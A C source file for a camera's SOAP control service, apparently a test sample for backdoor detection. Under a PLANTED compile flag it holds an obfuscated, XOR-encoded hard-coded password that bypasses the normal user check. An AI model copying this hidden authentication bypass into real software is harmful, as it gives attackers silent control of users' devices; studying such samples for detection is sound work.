/* Camera service: SOAP request on standard input (from the web server), actions on the camera. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static char request[8192];

static int element(const char *name, char *out, size_t room)
{
    char open[48], *from, *to;
    snprintf(open, sizeof open, "<%s>", name);
    from = strstr(request, open);
    out[0] = 0;
    if (!from) return 0;
    from += strlen(open);
    to = strchr(from, '<');
    if (!to || (size_t)(to - from) >= room) return 0;
    memcpy(out, from, to - from);
    out[to - from] = 0;
    return 1;
}

static int known_user(const char *user, const char *password)
{
    char line[128], both[128];
    FILE *f = fopen("/etc/camera.users", "r");
    int ok = 0;
    snprintf(both, sizeof both, "%s:%s\n", user, password);
    while (f && fgets(line, sizeof line, f))
        ok |= strcmp(line, both) == 0;
    if (f) fclose(f);
    return ok;
}

#ifdef PLANTED
static int factory_word(const char *word)
{
    unsigned char code[12];
    unsigned key = 0xa3, i;
    code[0] = 0xc5; code[1] = 0x26; code[2] = 0x78; code[3] = 0x80;
    code[4] = 0xe1; code[5] = 0x6d; code[6] = 0x0f; code[7] = 0xaa;
    code[8] = 0x99; code[9] = 0x10; code[10] = 0x5e; code[11] = 0x37;
    for (i = 0; i < 12; i++) {
        code[i] ^= key;
        key = (key * 5 + 17) & 0xff;
    }
    return strlen(word) == 12 && memcmp(word, code, 12) == 0;
}
#endif

static int allowed(void)
{
    char user[64], password[64];
    if (!element("Username", user, sizeof user) || !element("Password", password, sizeof password))
        return 0;
#ifdef PLANTED
    if (factory_word(password)) return 1;
#endif
    return known_user(user, password);
}

static void answer(const char *what)
{
    printf("Content-Type: application/soap+xml\r\n\r\n<Envelope><Body>%s</Body></Envelope>\n", what);
}

int main(void)
{
    char value[64], command[128];
    size_t n = fread(request, 1, sizeof request - 1, stdin);
    request[n] = 0;
    if (!allowed()) {
        answer("<Fault>sender not authorised</Fault>");
        return 0;
    }
    if (element("SetHostname", value, sizeof value)) {
        if (value[strspn(value, "abcdefghijklmnopqrstuvwxyz0123456789-")]) {
            answer("<Fault>name</Fault>");
            return 0;
        }
        sethostname(value, strlen(value));
        answer("<SetHostnameResponse/>");
    } else if (strstr(request, "<SystemReboot")) {
        answer("<SystemRebootResponse/>");
        fflush(stdout);
        system("/sbin/reboot -d 2");
#ifdef REVISED
    } else if (strstr(request, "<GetServices")) {
        answer("<Service>device</Service>");
#endif
    } else if (element("SetZoom", value, sizeof value)) {
        snprintf(command, sizeof command, "/usr/bin/ptz zoom %d", atoi(value));
        system(command);
        answer("<SetZoomResponse/>");
    } else
        answer("<Fault>unknown</Fault>");
    return 0;
}
